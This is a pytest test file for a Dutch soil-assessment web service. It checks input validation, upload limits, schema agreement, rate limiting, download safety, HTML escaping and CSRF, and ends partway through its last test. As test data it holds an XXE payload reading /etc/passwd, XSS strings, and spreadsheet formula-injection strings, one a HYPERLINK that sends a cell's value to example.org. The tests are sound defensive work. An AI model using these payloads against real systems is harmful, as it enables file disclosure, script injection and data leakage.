"""Audit of the assessment's interfaces as their users meet them: a lab's software posting JSON
to ``POST /api/v1/toetsing``, a consultant uploading a file, a citizen on ``/toetsing/``.

Bad input is answered with a status and a message that names the field or row (never a 500 or
a stack trace); the API agrees with ``kwalibo toets`` and with its OpenAPI schema; the public
endpoints are rate-limited and say when to retry; the downloads are safe to open in a
spreadsheet; the page escapes what the file says, keeps the user's choices and guards itself
with CSRF and a size limit that is checked before the body is read.
"""

from __future__ import annotations

import csv
import io
import json
import re
import zlib
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import jsonschema
import openpyxl
import pytest
import yaml
from django.core.cache import cache
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.test import Client, override_settings
from django.utils import translation
from rest_framework.test import APIClient

from kwalibo.api.tests.throttling import throttle_rates
from kwalibo.assessments import uploads
from kwalibo.assessments.domain.engine import CSV_COLUMNS, assess
from kwalibo.assessments.domain.explanation import LIMIT_COLUMNS
from kwalibo.assessments.tests.builders import measurements
from kwalibo.assessments.workbook import xlsx_report

LAB_FILE = Path(__file__).parent / "lab_files" / "lab_grond.csv"
SCHEMA_FILE = Path(__file__).resolve().parents[2] / "api" / "openapi.yaml"
URL = "/api/v1/toetsing"
PAGE = "/toetsing/"
# Copper 50 mg/kg ds at 5 % lutum and 3 % organic matter: 90.9 in standard soil, Industrie.
COPPER = [
    {"sample": "MM1", "parameter": "lutum", "value": "5", "unit": "%"},
    {"sample": "MM1", "parameter": "organische stof", "value": "3", "unit": "%"},
    {"sample": "MM1", "parameter": "koper", "value": "50", "unit": "mg/kg ds"},
]
# What must never reach a user in an error response.
LEAKS = ("Traceback", "SECRET_KEY", "/work/", "site-packages", 'File "')


@pytest.fixture
def api() -> APIClient:
    return APIClient(HTTP_ACCEPT_LANGUAGE="en")


@pytest.fixture
def page() -> Client:
    return Client(HTTP_ACCEPT_LANGUAGE="en")


def post_json(api: APIClient, body: Any) -> Any:
    return api.post(URL, body, format="json")


def upload(api: APIClient, content: bytes, name: str = "lab.csv", **fields: Any) -> Any:
    return api.post(URL, {"file": SimpleUploadedFile(name, content), **fields}, format="multipart")


def _file(content: bytes, name: str) -> io.BytesIO:
    buffer = io.BytesIO(content)
    buffer.name = name
    return buffer


def _lab(*rows: str) -> bytes:
    return ("sample;parameter;value;unit\n" + "".join(f"{row}\n" for row in rows)).encode()


def _pdf_text(content: bytes) -> bytes:
    return b"".join(
        zlib.decompress(stream)
        for stream in re.findall(rb"stream\n(.*?)\nendstream", content, re.S)
        if stream.startswith(b"x")
    )


def _download(page: Client, result: Any, kind: str) -> Any:
    found = re.search(rf'href="(/toetsing/[^"]+/toetsing\.{kind})"', result.content.decode())
    assert found, "the result page links its downloads"
    return page.get(found.group(1))


def _no_leak(response: Any) -> None:
    text = response.content.decode(errors="replace")
    assert not [leak for leak in LEAKS if leak in text], text[:500]


# --- bad input: 400 with the field or row named, never a 500 --------------------------------


@pytest.mark.parametrize(
    ("body", "path"),
    [
        ([COPPER[0]], ("non_field_errors",)),
        ({"measurements": "koper"}, ("measurements", "non_field_errors")),
        ({"measurements": ["koper"]}, ("measurements", "0", "non_field_errors")),
        ({"measurements": []}, ("non_field_errors",)),
        ({"measurements": [COPPER[0] | {"value": [5]}]}, ("measurements", "0", "value")),
        ({"measurements": [COPPER[0] | {"value": True}]}, ("measurements", "0", "value")),
        ({"measurements": [COPPER[0] | {"sample": ""}]}, ("measurements", "0", "sample")),
        ({"measurements": [COPPER[0] | {"value": "1" * 101}]}, ("measurements", "0", "value")),
        (
            {"measurements": [COPPER[0] | {"sampling_date": "12-06-2019"}]},
            ("measurements", "0", "sampling_date"),
        ),
        ({"measurements": COPPER, "frame": None}, ("frame",)),
        ({"measurements": COPPER, "frame": "lucht"}, ("frame",)),
        ({"measurements": COPPER, "rules": "rbk-2022"}, ("rules",)),
        ({"measurements": COPPER, "batch": "misschien"}, ("batch",)),
        ({"measurements": COPPER, "tare_soil": ["stenen"]}, ("tare_soil",)),
        ({"measurements": COPPER, "location": [1]}, ("location", "non_field_errors")),
    ],
)
def test_a_bad_json_request_is_400_naming_the_field(
    api: APIClient, body: Any, path: tuple[str, ...]
) -> None:
    response = post_json(api, body)
    assert response.status_code == 400, response.content
    assert response["Content-Type"] == "application/json"
    node = response.json()["errors"]
    for key in path:
        node = node[key]
    assert node
    assert all(isinstance(text, str) and text for text in node)
    _no_leak(response)


def test_malformed_json_is_400_with_the_position(api: APIClient) -> None:
    response = api.post(URL, b'{"measurements": [', content_type="application/json")
    assert response.status_code == 400
    assert response.json()["detail"].startswith("JSON parse error")
    assert "line 1 column 19" in response.json()["detail"]
    nan = api.post(
        URL,
        b'{"measurements": [{"sample": "A", "parameter": "koper", "value": NaN}]}',
        content_type="application/json",
    )
    assert nan.status_code == 400
    _no_leak(nan)


def test_other_media_types_and_methods_are_refused_in_json(api: APIClient) -> None:
    assert api.post(URL, "x", content_type="text/plain").status_code == 415
    assert api.get(URL).status_code == 405
    refused = api.post(URL, {"measurements": COPPER}, format="json", HTTP_ACCEPT="text/html")
    assert refused.status_code == 406
    assert refused.json()["detail"]


def test_a_missing_lutum_is_a_message_at_its_row_in_both_languages(api: APIClient) -> None:
    rows = [{"sample": "A", "parameter": "koper", "value": "50", "unit": "mg/kg ds"}]
    english = post_json(api, {"measurements": rows}).json()["verdicts"][0]
    dutch = APIClient(HTTP_ACCEPT_LANGUAGE="nl").post(URL, {"measurements": rows}, format="json")
    (missing,) = [m for m in english["messages"] if m["code"] == "missing_lutum"]
    assert (missing["row"], missing["parameter"], missing["level"]) == (1, "koper", "error")
    assert missing["message"].startswith("koper cannot be standardised")
    (dutch_missing,) = [
        m for m in dutch.json()["verdicts"][0]["messages"] if m["code"] == "missing_lutum"
    ]
    assert dutch_missing["message"].startswith("koper kan niet naar standaardbodem")
    assert english["class"] is None


@pytest.mark.parametrize(
    ("value", "unit"),
    [
        ("1e308", "mg/kg ds"),  # × the standardisation factor 1.8 would be beyond a float
        ("1e307", "g/kg ds"),  # × 1000 to mg/kg ds
        (1e308, "mg/kg ds"),  # a JSON number
        ("2000000", "mg/kg ds"),  # more than the whole dry matter
    ],
)
def test_a_content_above_the_whole_dry_matter_is_named_at_its_row_and_not_assessed(
    api: APIClient, value: Any, unit: str
) -> None:
    """Before, 1e308 answered 500 with an HTML page (JSON has no infinity) and 2,000,000 was
    assessed as a content above Industrie."""
    rows = [*COPPER[:2], {"sample": "MM1", "parameter": "koper", "value": value, "unit": unit}]
    response = post_json(api, {"measurements": rows})
    assert response.status_code == 200, response.content[:300]
    (verdict,) = response.json()["verdicts"]
    assert verdict["explanation"]["parameters"] == []
    (message,) = [m for m in verdict["messages"] if m["parameter"] == "koper"]
    assert (message["row"], message["level"], message["code"]) == (
        3,
        "error",
        "content_out_of_range",
    )
    assert "more than the whole dry matter" in message["message"]


def test_a_batch_with_a_content_above_the_dry_matter_leaves_that_sample_out_of_the_mean(
    api: APIClient,
) -> None:
    rows = [*COPPER[:2], {"sample": "MM1", "parameter": "koper", "value": "1e308"}]
    rows += [
        {"sample": "MM2", "parameter": "lutum", "value": "5", "unit": "%"},
        {"sample": "MM2", "parameter": "organische stof", "value": "3", "unit": "%"},
        {"sample": "MM2", "parameter": "koper", "value": "20", "unit": "mg/kg ds"},
    ]
    for row in rows:
        row.setdefault("unit", "mg/kg ds")
    response = post_json(api, {"measurements": rows, "batch": True, "frame": "waterbodem"})
    assert response.status_code == 200
    (verdict,) = response.json()["verdicts"]
    codes = {(m["row"], m["code"]) for m in verdict["messages"]}
    assert (3, "content_out_of_range") in codes


def test_a_json_number_beyond_any_float_is_refused_at_its_field(api: APIClient) -> None:
    body = b'{"measurements": [{"sample": "A", "parameter": "koper", "value": 1e400}]}'
    response = api.post(URL, body, content_type="application/json")
    assert response.status_code == 400
    assert response.json()["errors"]["measurements"]["0"]["value"] == [
        "the value inf of koper is beyond the range of a number"
    ]


def test_an_uploaded_content_above_the_dry_matter_is_named_at_its_row(
    api: APIClient, page: Client
) -> None:
    lab = _lab("M1;lutum;5;%", "M1;organische stof;3;%", "M1;koper;1e308;mg/kg ds")
    response = upload(api, lab, "lab.csv")
    assert response.status_code == 200
    messages = response.json()["verdicts"][0]["messages"]
    assert [(m["row"], m["code"]) for m in messages if m["parameter"] == "koper"] == [
        (4, "content_out_of_range")
    ]
    shown = page.post(PAGE, {"file": _file(lab, "lab.csv"), "frame": "grond"})
    assert shown.status_code == 200
    assert "more than the whole dry matter" in shown.content.decode()


def test_an_unknown_option_is_refused_rather_than_ignored(api: APIClient) -> None:
    response = post_json(api, {"measurements": COPPER, "kader": "waterbodem"})
    assert response.status_code == 400
    assert response.json()["errors"]["kader"] == ["Unknown field; did you mean frame?"]


def test_a_misspelt_field_is_answered_with_the_field_meant(api: APIClient) -> None:
    response = post_json(api, {"measurements": COPPER, "frmae": "waterbodem"})
    assert response.json()["errors"]["frmae"] == ["Unknown field; did you mean frame?"]


def test_an_unknown_field_of_a_measurement_is_refused_at_its_row(api: APIClient) -> None:
    rows = [dict(COPPER[0]), {**COPPER[1], "limit_symbol": "<"}, *COPPER[2:]]
    response = post_json(api, {"measurements": rows})
    assert response.status_code == 400
    errors = response.json()["errors"]["measurements"]
    assert list(errors) == ["1"]
    assert errors["1"]["limit_symbol"][0].startswith("Unknown field; the fields are sample,")


def test_an_upload_with_an_unknown_form_field_is_refused(api: APIClient) -> None:
    lab = _lab("M1;lutum;5;%", "M1;organische stof;3;%", "M1;koper;40;mg/kg ds")
    response = upload(api, lab, partij="true")
    assert response.status_code == 400
    assert response.json()["errors"]["partij"] == ["Unknown field; did you mean batch?"]


def test_the_detail_of_a_validation_error_is_dutch_for_a_dutch_client() -> None:
    dutch = APIClient(HTTP_ACCEPT_LANGUAGE="nl")
    response = dutch.post(URL, {"measurements": COPPER, "frame": "lucht"}, format="json")
    assert response.status_code == 400
    assert response.json()["detail"] != "Invalid input."


# --- files: wrong extension or content, size limits ------------------------------------------


@pytest.mark.parametrize(
    ("content", "name", "message"),
    [
        (b"", "lab.csv", "The submitted file is empty."),
        (b"\x89PNG\r\n\x1a\n" + b"\x00" * 64, "foto.png", "foto.png: the file is not text"),
        (b"PK\x03\x04garbage", "lab.xlsx", "lab.xlsx: the file is not an XLSX workbook"),
        (
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 64,
            "lab.xls",
            "lab.xls: this is a legacy",
        ),
        (b"<a><b>", "lab.xml", "lab.xml, row 1: malformed XML"),
        (
            b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
            "lab.xml",
            "lab.xml, row 1: the XML declares a DTD or entities, which is refused",
        ),
        (b"sample,parameter,value,unit\n", "lab.csv", "lab.csv: the file contains no measurements"),
    ],
)
def test_an_unusable_file_is_refused_naming_the_file(
    api: APIClient, page: Client, content: bytes, name: str, message: str
) -> None:
    response = upload(api, content, name)
    assert response.status_code == 400
    (error,) = response.json()["errors"]["file"]
    assert error.startswith(message)
    _no_leak(response)
    shown = page.post(PAGE, {"file": _file(content, name), "frame": "grond"})
    assert shown.status_code == 422
    assert "Assessment result" not in shown.content.decode()
    _no_leak(shown)


def test_a_file_over_the_limit_is_refused_at_the_file_field(
    api: APIClient, page: Client, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(uploads, "MAX_UPLOAD_BYTES", 100)
    lab = LAB_FILE.read_bytes()
    assert len(lab) > 100
    response = upload(api, lab)
    assert response.status_code == 413
    assert response.json()["errors"]["file"] == ["the file is larger than 20 MB"]
    shown = page.post(PAGE, {"file": _file(lab, "lab.csv"), "frame": "grond"})
    assert shown.status_code == 422
    (error,) = shown.context["form"].errors["file"]
    assert error.startswith("lab.csv: the file is larger than")


def test_an_upload_request_over_the_limit_is_refused_before_its_body_is_read(
    api: APIClient, page: Client
) -> None:
    """A claimed Content-Length beyond the limit: reading the (short) body would fail, so a
    413 shows the body was not read (nor spooled to disk)."""
    claimed = str(uploads.MAX_REQUEST_BYTES + 1)
    lab = SimpleUploadedFile("lab.csv", LAB_FILE.read_bytes())
    response = api.post(URL, {"file": lab}, format="multipart", CONTENT_LENGTH=claimed)
    assert response.status_code == 413
    assert response.json() == {
        "detail": "the file is larger than 20 MB",
        "errors": {"file": ["the file is larger than 20 MB"]},
    }
    shown = page.post(
        PAGE, {"file": _file(LAB_FILE.read_bytes(), "lab.csv")}, CONTENT_LENGTH=claimed
    )
    assert shown.status_code == 413
    assert (
        '<p class="error" role="alert">Lab file: the file is larger than 20 MB</p>'
        in shown.content.decode()
    )


def test_a_json_body_over_the_memory_limit_is_413_with_a_json_message(api: APIClient) -> None:
    """It was a bare HTML "Bad Request (400)" page from Django."""
    with override_settings(DATA_UPLOAD_MAX_MEMORY_SIZE=3 * 1024 * 1024):
        rows = [{"sample": "A" * 150, "parameter": "koper", "value": "1"}] * 20_000
        response = post_json(api, {"measurements": rows})
    assert response.status_code == 413
    assert response["Content-Type"] == "application/json"
    assert response.json() == {
        "detail": "The request is larger than 3 MB; send the lab results as a file upload.",
        "errors": {},
    }


def test_a_multipart_upload_keeps_both_tare_soil_choices_beside_a_json_field(
    api: APIClient,
) -> None:
    """With ``location`` (JSON text) in the same upload, ``tare_soil`` was read as one string:
    400 "Expected a list of items"."""
    lab = _lab(
        "M1;lutum;25;%",
        "M1;organische stof;10;%",
        "M1;minerale olie;600;mg/kg ds",
        "M1;koper;20;mg/kg ds",
    )
    response = upload(
        api,
        lab,
        tare_soil=["potatoes", "natural_presence"],
        location='{"function_class": "wonen", "receiving_quality_class": "wonen"}',
    )
    assert response.status_code == 200, response.content
    (verdict,) = response.json()["verdicts"]
    # mineral oil 600 (above Industrie 500) is not tested where it is naturally present
    assert verdict["class"] == "achtergrondwaarde"
    assert verdict["location"]["allowed"] is True


# --- the API agrees with the CLI and with its OpenAPI schema ---------------------------------


def _cli_json(*args: str) -> Any:
    out = io.StringIO()
    with translation.override("en"):
        call_command(
            "toets", str(LAB_FILE), "--format", "json", *args, stdout=out, stderr=io.StringIO()
        )
    return json.loads(out.getvalue())


def _without_templates(verdicts: list[dict[str, Any]]) -> list[dict[str, Any]]:
    """The CLI's verdicts with the message templates and parameters it adds for scripts."""
    return [
        verdict
        | {
            "messages": [
                {k: v for k, v in m.items() if k not in {"template", "params"}}
                for m in verdict["messages"]
            ]
        }
        for verdict in verdicts
    ]


@pytest.mark.parametrize(
    ("cli", "api_fields"),
    [
        ((), {}),
        (("--partij",), {"batch": "true"}),
        (("--kader", "waterbodem"), {"frame": "waterbodem"}),
        (("--handhaving", "wonen"), {"stated_class": "wonen"}),
        (
            ("--functieklasse", "wonen", "--ontvangende-bodem", "industrie"),
            {"location": '{"function_class": "wonen", "receiving_quality_class": "industrie"}'},
        ),
        (("--grootschalig", "--laagdikte", "3"), {"application": '{"thickness_m": 3}'}),
    ],
)
def test_the_api_gives_the_verdicts_of_the_cli_for_the_same_file(
    api: APIClient, cli: tuple[str, ...], api_fields: dict[str, str]
) -> None:
    response = upload(api, LAB_FILE.read_bytes(), "lab_grond.csv", **api_fields)
    assert response.status_code == 200, response.content
    verdicts = response.json()["verdicts"]
    assert verdicts == _without_templates(_cli_json(*cli))
    assert all({"sample", "class", "explanation"} <= set(v) for v in verdicts)


def _json_schema(node: Any) -> Any:
    """OpenAPI 3.0 ``nullable`` as JSON Schema."""
    if isinstance(node, list):
        return [_json_schema(item) for item in node]
    if not isinstance(node, dict):
        return node
    node = {key: _json_schema(value) for key, value in node.items()}
    if node.pop("nullable", False):
        if "type" in node and not {"allOf", "oneOf", "anyOf", "$ref"} & set(node):
            node["type"] = [node["type"], "null"]
        else:
            node = {"anyOf": [node, {"type": "null"}]}
    return node


@pytest.fixture(scope="module")
def committed_schema() -> dict[str, Any]:
    return yaml.safe_load(SCHEMA_FILE.read_text(encoding="utf-8"))


def _validator(schema: dict[str, Any], component: str) -> jsonschema.Draft202012Validator:
    root = {
        "components": {"schemas": _json_schema(schema["components"]["schemas"])},
        "$ref": f"#/components/schemas/{component}",
    }
    return jsonschema.Draft202012Validator(root)


ASKED = {
    "plain": {},
    "no lutum": {
        "measurements": [{"sample": "A", "parameter": "cadmium", "value": "<0,2", "unit": "mg/kg"}]
    },
    "nothing assessable": {
        "measurements": [{"sample": "A", "parameter": "flubber", "value": "1", "unit": "mg/kg"}]
    },
    "water batch": {"frame": "waterbodem", "batch": True},
    "large scale": {
        "application": {
            "thickness_m": 3,
            "volume_m3": 6000,
            "cover": "bouwstoffen",
            "column_test": [{"parameter": "As", "value": "0,7", "unit": "mg/kg"}],
        }
    },
    "emission": {"large_scale": True},
    "local": {
        "local_maximum_values": {
            "title": "Nota",
            "values": [
                {"parameter": "koper", "value": "90"},
                {"parameter": "lood", "value": "800"},
            ],
        }
    },
    "location": {"location": {"function_class": "wonen", "receiving_quality_class": "industrie"}},
    "water location": {"frame": "waterbodem", "location": {"receiving_quality_class": "klasse_A"}},
    "enforcement": {"stated_class": "wonen"},
    "receiving soil": {"receiving_soil": True, "tare_soil": ["natural_presence", "potatoes"]},
}


@pytest.mark.parametrize("asked", list(ASKED), ids=list(ASKED))
def test_real_responses_match_the_committed_openapi_schema(
    api: APIClient, committed_schema: dict[str, Any], asked: str
) -> None:
    body = {"measurements": [*COPPER, {"sample": "MM1", "parameter": "arseen", "value": "50"}]}
    response = post_json(api, body | ASKED[asked])
    assert response.status_code == 200, response.content
    validator = _validator(committed_schema, "ToetsingAssessmentOut")
    errors = [f"{e.json_path}: {e.message}" for e in validator.iter_errors(response.json())]
    assert errors == []
    # the check can fail: a class that is not a string is caught
    broken = response.json()
    broken["verdicts"][0]["class"] = 3
    assert not validator.is_valid(broken)


def test_an_uploaded_sikb_file_matches_the_committed_openapi_schema(
    api: APIClient, committed_schema: dict[str, Any]
) -> None:
    path = Path(__file__).parent / "files" / "sikb0101_analyseresultaten_grond.xml"
    response = upload(api, path.read_bytes(), path.name)
    assert response.status_code == 200, response.content
    validator = _validator(committed_schema, "ToetsingAssessmentOut")
    assert [e.message for e in validator.iter_errors(response.json())] == []


def test_the_documented_response_example_is_a_valid_response(
    committed_schema: dict[str, Any],
) -> None:
    content = committed_schema["paths"]["/api/v1/toetsing"]["post"]["responses"]["200"]["content"]
    examples = content["application/json"].get("examples", {})
    validator = _validator(committed_schema, "ToetsingAssessmentOut")
    assert all(validator.is_valid(example["value"]) for example in examples.values())


# --- public, rate-limited, in Dutch first ---------------------------------------------------


@pytest.fixture
def strict_throttle() -> Iterator[None]:
    with throttle_rates({"anon": "1/minute", "user": "100/minute"}):
        yield


@pytest.mark.usefixtures("strict_throttle")
def test_the_api_needs_no_login_and_says_when_to_retry_in_both_languages() -> None:
    dutch = APIClient(HTTP_ACCEPT_LANGUAGE="nl")
    assert post_json(dutch, {"measurements": COPPER}).status_code == 200
    refused = post_json(dutch, {"measurements": COPPER})
    assert refused.status_code == 429
    assert refused["Retry-After"] == "60"
    assert refused.json() == {
        "detail": "Te veel verzoeken. Probeer het over 60 seconden opnieuw.",
        "errors": {},
    }
    english = post_json(APIClient(HTTP_ACCEPT_LANGUAGE="en"), {"measurements": COPPER})
    assert english.status_code == 429
    assert english.json()["detail"] == "Too many requests. Try again in 60 seconds."


def test_the_page_and_its_downloads_are_rate_limited() -> None:
    cache.clear()
    try:
        with override_settings(RATE_PAGES="2/m"):
            client = Client(HTTP_ACCEPT_LANGUAGE="en")
            codes = [client.get(PAGE).status_code for _ in range(2)]
            refused = client.get("/toetsing/some-token/toetsing.csv")
    finally:
        cache.clear()
    assert codes == [200, 200]
    assert refused.status_code == 429
    assert refused["Retry-After"] == "60"


@pytest.mark.parametrize(
    ("accept", "language", "start"),
    [
        (None, "nl", "koper kan niet naar standaardbodem"),
        ("nl-NL,nl;q=0.9", "nl", "koper kan niet naar standaardbodem"),
        ("de", "nl", "koper kan niet naar standaardbodem"),
        ("en-GB,en;q=0.8", "en", "koper cannot be standardised"),
    ],
)
def test_dutch_first_english_on_request(accept: str | None, language: str, start: str) -> None:
    client = APIClient() if accept is None else APIClient(HTTP_ACCEPT_LANGUAGE=accept)
    rows = [{"sample": "A", "parameter": "koper", "value": "50", "unit": "mg/kg ds"}]
    response = post_json(client, {"measurements": rows})
    assert response["Content-Language"] == language
    assert "Accept-Language" in response["Vary"]
    texts = [m["message"] for m in response.json()["verdicts"][0]["messages"]]
    assert any(text.startswith(start) for text in texts)
    refused = post_json(client, {"measurements": rows, "frame": "lucht"})
    expected = "is een ongeldige keuze" if language == "nl" else "is not a valid choice"
    assert expected in refused.json()["errors"]["frame"][0]


# --- the downloads ---------------------------------------------------------------------------

FORMULAS = ('=HYPERLINK("http://example.org/?"&A1,"klik")', "+1+1", "-2+3", "@SUM(A1:A2)")


def _formula_lab() -> bytes:
    rows = []
    for name in FORMULAS:
        quoted = '"' + name.replace('"', '""') + '"'
        rows += [
            f"{quoted};lutum;25;%",
            f"{quoted};organische stof;10;%",
            f"{quoted};koper;20;mg/kg ds",
        ]
    rows += ['"M;1, ""quoted""";koper;20;mg/kg ds', "M2;koper;20;mg/kg ds"]
    return _lab(*rows)


def test_the_csv_download_has_a_header_and_a_row_per_sample_and_parameter(page: Client) -> None:
    result = page.post(PAGE, {"file": _file(LAB_FILE.read_bytes(), "lab.csv"), "frame": "grond"})
    response = _download(page, result, "csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    reader = csv.DictReader(io.StringIO(response.content.decode()))
    assert reader.fieldnames == [*CSV_COLUMNS, *(label for label, _ in LIMIT_COLUMNS["grond"])]
    rows = list(reader)
    verdicts = result.context["verdicts"]
    assert {row["sample"] for row in rows} == {v["sample"] for v in verdicts}
    for verdict in verdicts:
        assert sorted(r["name"] for r in rows if r["sample"] == verdict["sample"]) == sorted(
            p["name"] for p in verdict["parameters"]
        )


def test_sample_names_do_not_become_formulas_in_a_spreadsheet(page: Client) -> None:
    result = page.post(PAGE, {"file": _file(_formula_lab(), "lab.csv"), "frame": "grond"})
    assert result.status_code == 200
    rows = list(csv.DictReader(io.StringIO(_download(page, result, "csv").content.decode())))
    samples = {row["sample"] for row in rows}
    assert samples == {*("'" + name for name in FORMULAS), 'M;1, "quoted"', "M2"}
    # no cell of the file starts a formula
    cells = [
        cell
        for row in csv.reader(io.StringIO(_download(page, result, "csv").content.decode()))
        for cell in row
    ]
    assert [cell for cell in cells if cell[:1] in {"=", "+", "-", "@"}] == []


def test_downloads_with_checks_are_still_safe(page: Client) -> None:
    lab = _lab('"=1+1";lutum;25;%', '"=1+1";organische stof;10;%', '"=1+1";zink;300;mg/kg ds')
    result = page.post(
        PAGE, {"file": _file(lab, "lab.csv"), "frame": "grond", "stated_class": "wonen"}
    )
    (row,) = csv.DictReader(io.StringIO(_download(page, result, "csv").content.decode()))
    assert (row["sample"], row["enforcement_violation"]) == ("'=1+1", "true")


def _workbook(content: bytes) -> Any:
    return openpyxl.load_workbook(io.BytesIO(content))


def test_the_excel_download_holds_the_csv_rows_with_numbers_and_truth_values() -> None:
    """A Dutch Excel shows the comma CSV in one column; the workbook has no separators."""
    client = Client(HTTP_ACCEPT_LANGUAGE="nl")
    result = client.post(PAGE, {"file": _file(LAB_FILE.read_bytes(), "lab.csv"), "frame": "grond"})
    response = _download(client, result, "xlsx")
    assert response["Content-Type"].endswith("spreadsheetml.sheet")
    assert response["Content-Disposition"] == 'attachment; filename="lab-toetsing.xlsx"'
    book = _workbook(response.content)
    assert book.sheetnames == ["toetsing", "meldingen"]
    header, *rows = list(book["toetsing"].values)
    csv_rows = list(csv.DictReader(io.StringIO(_download(client, result, "csv").content.decode())))
    assert list(header) == list(csv_rows[0])
    assert len(rows) == len(csv_rows)
    for row, written in zip(rows, csv_rows, strict=True):
        cells = dict(zip(header, row, strict=True))
        assert cells["sample"] == written["sample"]
        if written["value_used_mg_kg_ds"]:
            assert type(cells["value_used_mg_kg_ds"]) in (int, float)  # a number, not text
            assert cells["value_used_mg_kg_ds"] == pytest.approx(
                float(written["value_used_mg_kg_ds"])
            )
        assert cells["decisive"] in (True, False, None)
        assert str(cells["decisive"]).lower() == (written["decisive"] or "none")


def test_sample_names_stay_text_in_the_excel_download(page: Client) -> None:
    result = page.post(PAGE, {"file": _file(_formula_lab(), "lab.csv"), "frame": "grond"})
    sheet = _workbook(_download(page, result, "xlsx").content)["toetsing"]
    samples = {row[0].value: row[0].data_type for row in sheet.iter_rows(min_row=2)}
    assert set(samples) == {*FORMULAS, 'M;1, "quoted"', "M2"}
    assert set(samples.values()) == {"s"}


def test_a_control_character_in_a_sample_name_does_not_break_the_workbook() -> None:
    rows = [("M\x01", "lutum", "25"), ("M\x01", "organische stof", "10"), ("M\x01", "koper", "20")]
    sheet = _workbook(xlsx_report(assess(measurements(rows), frame="grond")))["toetsing"]
    assert [row[0].value for row in sheet.iter_rows(min_row=2)] == ["M\ufffd"]


def test_the_excel_download_lists_the_messages_where_they_arose() -> None:
    client = Client(HTTP_ACCEPT_LANGUAGE="nl")
    lab = _lab("M1;lutum;25;%", "M1;organische stof;10;%", "M1;koper;20;mg/kg ds", "M1;kopr;5;mg")
    result = client.post(PAGE, {"file": _file(lab, "lab.csv"), "frame": "grond"})
    header, *rows = list(_workbook(_download(client, result, "xlsx").content)["meldingen"].values)
    assert header == ("sample", "row", "parameter", "level", "code", "message")
    unknown = [dict(zip(header, row, strict=True)) for row in rows if row[2] == "kopr"]
    assert [(m["sample"], m["row"], m["code"]) for m in unknown] == [("M1", 5, "unknown_parameter")]
    assert unknown[0]["message"].startswith("Onbekende parameter kopr")


def test_the_pdf_download_opens_and_names_every_sample(page: Client) -> None:
    result = page.post(PAGE, {"file": _file(_formula_lab(), "lab.csv"), "frame": "grond"})
    response = _download(page, result, "pdf")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response.content.startswith(b"%PDF-")
    assert response.content.rstrip().endswith(b"%%EOF")
    text = _pdf_text(response.content)
    for name in (b"M2", b"+1+1", b"@SUM\\(A1:A2\\)"):
        assert b"Sample " + name in text


def test_a_download_name_beyond_ascii_is_kept(page: Client) -> None:
    result = page.post(
        PAGE, {"file": _file(LAB_FILE.read_bytes(), "測定 2019.csv"), "frame": "grond"}
    )
    response = _download(page, result, "csv")
    # It was the whole header MIME-encoded ("=?utf-8?b?...?="), which browsers do not read.
    assert response["Content-Disposition"] == (
        "attachment; filename*=utf-8''%E6%B8%AC%E5%AE%9A_2019-toetsing.csv"
    )


# --- the page --------------------------------------------------------------------------------


def test_names_from_the_file_are_escaped_on_the_page(page: Client) -> None:
    lab = _lab(
        '"<script>alert(1)</script>";lutum;25;%',
        '"<script>alert(1)</script>";organische stof;10;%',
        '"<script>alert(1)</script>";koper;50;mg/kg ds',
        "M2;<img src=x onerror=alert(2)>;5;mg/kg ds",
        "M3;koper;<b>5</b>;<i>mg</i>",
    )
    response = page.post(PAGE, {"file": _file(lab, "<svg onload=alert(3)>.csv"), "frame": "grond"})
    html = response.content.decode()
    assert response.status_code == 200
    for raw in ("<script>alert", "<img src=x", "<b>5</b>", "<i>mg</i>", "<svg onload"):
        assert raw not in html
    assert '<a href="#sample-1">&lt;script&gt;alert(1)&lt;/script&gt;</a>' in html
    assert "&lt;img src=x onerror=alert(2)&gt;" in html
    assert "<dd>&lt;svg onload=alert(3)&gt;.csv</dd>" in html


def test_the_page_is_protected_against_cross_site_posts() -> None:
    client = Client(enforce_csrf_checks=True, HTTP_ACCEPT_LANGUAGE="en")
    lab = LAB_FILE.read_bytes()
    forged = client.post(PAGE, {"file": _file(lab, "lab.csv"), "frame": "grond"})
    assert forged.status_code == 403
    form = client.get(PAGE)
    token = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', form.content.decode())
    assert token
    honest = client.post(
        PAGE,
        {"file": _file(lab, "lab.csv"), "frame": "grond", "csrfmiddlewaretoken": token.group(1)},
    )
    assert honest.status_code == 200


CHOICES = {
    "frame": "waterbodem",
    "batch": "on",
    "sampling_date": "2020-03-04",
    "rules": "rbk-2015",
    "stated_class": "klasse_B",
    "thickness_m": "2.5",
    "volume_m3": "8000",
    "cover": "leeflaag",
    "location_receiving": "klasse_A",
    "location_material": "grond",
}


def _kept(html: str) -> dict[str, Any]:
    form = html[html.rfind("<form") :]

    def chosen(name: str) -> str | None:
        select = re.search(rf'<select name="{name}".*?</select>', form, re.S)
        assert select, name
        found = re.search(r'<option value="([^"]*)"[^>]*selected', select.group(0))
        return found.group(1) if found else None

    def value(name: str) -> str | None:
        tag = re.search(rf'<input[^>]*name="{name}"[^>]*>', form)
        assert tag, name
        found = re.search(r'value="([^"]*)"', tag.group(0))
        return found.group(1) if found else None

    checked = re.findall(r'<input[^>]*name="(frame|batch)"[^>]*>', form)
    return {
        "frame": re.search(r'<input[^>]*name="frame" value="(\w+)"[^>]*checked', form).group(1)  # type: ignore[union-attr]
        if checked
        else None,
        "batch": "on" if re.search(r'<input[^>]*name="batch"[^>]*checked', form) else None,
        "sampling_date": value("sampling_date"),
        "rules": chosen("rules"),
        "stated_class": chosen("stated_class"),
        "thickness_m": value("thickness_m"),
        "volume_m3": value("volume_m3"),
        "cover": chosen("cover"),
        "location_receiving": chosen("location_receiving"),
        "location_material": chosen("location_material"),
    }


def test_the_form_keeps_the_users_choices_after_an_error(page: Client) -> None:
    """The sampling date was lost (its input was written without a value)."""
    response = page.post(PAGE, {"file": _file(b"a;b\n1;2\n", "x.csv"), **CHOICES})
    assert response.status_code == 422
    assert _kept(response.content.decode()) == CHOICES


def test_the_form_below_the_result_keeps_the_rule_set_and_date(page: Client) -> None:
    response = page.post(PAGE, {"file": _file(LAB_FILE.read_bytes(), "lab.csv"), **CHOICES})
